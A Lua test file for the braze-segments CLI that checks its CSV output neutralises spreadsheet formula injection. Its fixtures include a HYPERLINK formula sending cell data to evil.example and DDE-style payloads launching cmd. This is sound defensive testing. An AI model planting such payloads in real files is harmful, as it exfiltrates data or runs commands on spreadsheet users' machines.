-- CSV formula injection: segment names, tags and ids are written by anyone
-- with dashboard access, and the CSV files braze-segments writes are meant
-- for spreadsheets. A text cell that begins with = + - @ TAB or CR gets a '
-- in front (numbers stay numbers), a NUL becomes U+FFFD, and export --resume
-- reads the ids back without the ', so it neither loses nor repeats a row.
local helpers = require("spec.support.helpers")
local support = require("spec.cli.support")
local cjson = require("cjson")

-- The list the mock serves (through its raw fault), and its CSV rows as
-- they must be written: id,name,analytics_tracking_enabled,tags.
local HOSTILE = {
  { id = "=1+2", name = '=HYPERLINK("http://evil.example/?"&A1,"x")', tags = { "+cmd|' /C calc'!A0" } },
  { id = "seg-plain-2", name = "@SUM(A1:A9)", tags = { "ok", "-2+3" } },
  { id = "'=already", name = "\tTabbed", tags = {} },
  { id = "-neg", name = "\rCR first", tags = { "'90s" } },
  { id = "nul\0id", name = "a\0b", tags = {} },
  { id = "normal-6", name = "'90s fans", tags = {} },
}
local ROWS = {
  "id,name,analytics_tracking_enabled,tags",
  [['=1+2,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",true,'+cmd|' /C calc'!A0]],
  "seg-plain-2,'@SUM(A1:A9),true,ok;'-2+3",
  "''=already,'\tTabbed,true,",
  "'-neg,\"'\rCR first\",true,'90s",
  "nul\u{FFFD}id,a\u{FFFD}b,true,",
  "normal-6,'90s fans,true,",
}
local EXPECTED = table.concat(ROWS, "\r\n") .. "\r\n"

describe("#lua53 braze-segments CSV cells a spreadsheet would run as formulas", function()
  local mock, env, tmp
  setup(function()
    mock = helpers.start_mock({ segments = #HOSTILE })
    env = { BRAZE_API_KEY = mock.api_key, BRAZE_REST_ENDPOINT = mock.url }
    tmp = helpers.read_pipe("mktemp -d /tmp/braze-csvguard.XXXXXX"):gsub("\n$", "")
  end)
  teardown(function()
    if mock then mock:stop() end
    if tmp and tmp:match("^/tmp/braze%-csvguard") then os.execute("rm -rf '" .. tmp .. "'") end
  end)

  -- The next /segments/list answers the hostile list.
  local function serve_hostile()
    local list = { segments = {}, message = "success" }
    for i, h in ipairs(HOSTILE) do
      list.segments[i] = { id = h.id, name = h.name, analytics_tracking_enabled = true,
        tags = setmetatable(h.tags, cjson.array_mt) }
    end
    mock:fault({ type = "raw", path = "/segments/list", body = cjson.encode(list) })
  end

  it("list --format csv guards names, tags and ids, and replaces NUL", function()
    serve_hostile()
    local r = support.run({ "--quiet", "list", "--format", "csv" }, env)
    assert.equal(0, r.code, r.stderr)
    assert.equal(EXPECTED, r.stdout)
  end)

  it("export --format csv writes the same guarded cells", function()
    serve_hostile()
    local path = tmp .. "/all.csv"
    local r = support.run({ "--quiet", "export", "--format", "csv", "--concurrency", "1", "-o", path }, env)
    assert.equal(0, r.code, r.stderr)
    assert.equal(EXPECTED, helpers.read_file(path))
  end)

  it("details --format csv guards the name, description, each team and tag", function()
    mock:fault({ type = "raw", path = "/segments/details", body = cjson.encode({
      name = "=x()", description = "+y\nz", teams = { "@team", "-two" }, tags = { "ok" },
      created_at = "2020-01-01T00:00:00Z", updated_at = "2020-01-02T00:00:00Z", ["=key"] = -1,
      message = "success" }) })
    local r = support.run({ "--quiet", "details", "seg-1", "--format", "csv" }, env)
    assert.equal(0, r.code, r.stderr)
    local records = require("braze_segments.format").parse_csv(r.stdout)
    assert.equal(2, #records)
    local cells = {}
    for c, title in ipairs(records[1]) do cells[title] = records[2][c] end
    assert.equal("'=x()", cells.name)
    assert.equal("'+y\nz", cells.description)
    assert.equal("'@team;'-two", cells.teams)
    assert.equal("-1", cells["'=key"]) -- a number stays a number
    for _, record in ipairs(records) do
      for _, cell in ipairs(record) do
        if cell ~= "-1" then assert.is_nil(cell:find("^[=+%-@\t\r]"), cell) end
      end
    end
  end)

  it("details --format csv keeps a field Braze left out as an empty cell in its own column", function()
    mock:fault({ type = "raw", path = "/segments/details", body = cjson.encode({
      name = "Plain", created_at = "2020-01-01T00:00:00Z", updated_at = "2020-01-02T00:00:00Z",
      message = "success" }) })
    local r = support.run({ "--quiet", "details", "seg-1", "--format", "csv" }, env)
    assert.equal(0, r.code, r.stderr)
    local records = require("braze_segments.format").parse_csv(r.stdout)
    assert.equal(2, #records)
    assert.equal(#records[1], #records[2])
    local cells = {}
    for c, title in ipairs(records[1]) do cells[title] = records[2][c] end
    assert.same({ id = "seg-1", name = "Plain", description = "", text_description = "", tags = "",
      teams = "", created_at = "2020-01-01T00:00:00Z", updated_at = "2020-01-02T00:00:00Z" }, cells)
  end)

  it("series --format csv guards a text cell and leaves a negative size a number", function()
    mock:fault({ type = "raw", path = "/segments/data_series",
      body = '{"data":[{"time":"=cmd|x","size":-5},{"time":"2024-06-30","size":7}],"message":"success"}' })
    local r = support.run({ "--quiet", "series", "seg-1", "--format", "csv" }, env)
    assert.equal(0, r.code, r.stderr)
    assert.equal("time,size\r\n'=cmd|x,-5\r\n2024-06-30,7\r\n", r.stdout)
  end)

  it("export --resume of a CSV cut after each record neither loses nor repeats a row", function()
    serve_hostile()
    local full = tmp .. "/full.csv"
    local args = { "--quiet", "export", "--format", "csv", "--concurrency", "1", "-o", full }
    local r = support.run(args, env)
    assert.equal(0, r.code, r.stderr)
    assert.equal(EXPECTED, helpers.read_file(full))
    local manifest = assert(helpers.read_file(full .. ".braze.json"))
    for keep = 1, #HOSTILE - 1 do
      local part = tmp .. "/part" .. keep .. ".csv"
      helpers.write_file(part, table.concat(ROWS, "\r\n", 1, keep + 1) .. "\r\n")
      helpers.write_file(part .. ".braze.json", manifest)
      serve_hostile()
      args[#args] = part
      args[#args + 1] = "--resume"
      r = support.run(args, env)
      args[#args] = nil
      assert.equal(0, r.code, r.stderr)
      assert.equal(EXPECTED, helpers.read_file(part), "cut after record " .. keep)
    end
  end)
end)
